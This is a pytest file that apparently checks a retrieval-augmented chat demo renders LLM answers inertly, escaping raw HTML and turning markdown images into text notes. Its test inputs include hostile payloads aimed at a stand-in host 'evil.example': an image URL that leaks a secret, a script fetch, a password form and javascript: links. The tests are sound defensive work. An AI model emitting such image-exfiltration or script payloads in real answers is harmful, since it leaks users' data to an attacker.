"""What the demo page shows: LLM answers rendered inert, document text shown literally."""

from __future__ import annotations

import re

from cde_rag.answer import Source
from cde_rag.demo.index import Answer
from cde_rag.demo.render import chat_text, llm_html, text_html

SOURCES = [Source(1, "a.md", 0, 0.9, "x")]
EVIL = "http://evil.example"


def tags(html: str) -> set[str]:
    return {name.lower() for name in re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", html)}


def test_llm_markdown_keeps_its_formatting():
    out = llm_html("**Green tea** likes 80 °C [1].\n\n- one\n- two\n\n`code` and *this*")
    assert "<strong>Green tea</strong>" in out and "<li>one</li>" in out
    assert "<code>code</code>" in out and "<em>this</em>" in out
    assert "[1]" in out


def test_llm_images_become_text_notes():
    out = llm_html(f"![chart]({EVIL}/leak?q=secret) and ![ref][r]\n\n[r]: {EVIL}/ref")
    assert "<img" not in out
    assert f"[image not shown: chart, {EVIL}/leak?q=secret]" in out
    assert f"[image not shown: ref, {EVIL}/ref]" in out


def test_llm_raw_html_is_shown_as_text():
    markup = (
        f'<img src="{EVIL}/i"> <form action="{EVIL}"><input type="password"></form> '
        f'<script>fetch("{EVIL}")</script> <iframe src="{EVIL}"></iframe> '
        f'<a href="{EVIL}" onclick="x()">a</a> <div style="background:url({EVIL})">d</div>'
    )
    for text in (markup, f"para\n\n{markup}\n\nend", f"<div>\n{markup}\n</div>"):
        out = llm_html(text)
        assert tags(out) <= {"p"}, out
        assert "&lt;form action=" in out and "&lt;script&gt;" in out


def test_llm_links_open_apart_and_only_for_web_addresses():
    out = llm_html(f"[report]({EVIL}/r) <{EVIL}/auto> [mail](mailto:a@b.c)")
    links = re.findall(r"<a [^>]*>", out)
    assert len(links) == 3
    assert all('rel="noopener noreferrer nofollow"' in a and 'target="_blank"' in a for a in links)
    for bad in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "/gradio_api/x"):
        out = llm_html(f"[run]({bad})")
        assert "<a" not in out and "[run]" in out, out


def test_extractive_answers_and_questions_are_literal_text():
    answer = Answer("Use *bold* <b>claims</b>. [1]", SOURCES, "extractive")
    out = chat_text(answer)
    assert out.startswith("<p>Use *bold* &lt;b&gt;claims&lt;/b&gt;. [1]</p>")
    assert "best-matching sentences" in out
    assert text_html("a <script>x</script>\nb") == "a &lt;script&gt;x&lt;/script&gt;<br>b"
    assert text_html("one\n\ntwo") == "<p>one</p><p>two</p>"


def test_llm_failure_is_said_once():
    reason = "LLM endpoint http://127.0.0.1:9/v1 answered HTTP 500: model is broken"
    out = chat_text(Answer("Paris. [1]", SOURCES, f"extractive (LLM failed: {reason})"))
    assert out.count("500") == 1 and out.count("LLM") == 2  # "The LLM could not" + endpoint
    assert "best-matching sentences" in out and out.startswith("<p>Paris. [1]</p>")


def test_llm_answer_in_the_chat_is_rendered_inert():
    out = chat_text(Answer(f"See [1]. ![x]({EVIL}/x)", SOURCES, "llm"))
    assert "<img" not in out and "See [1]." in out
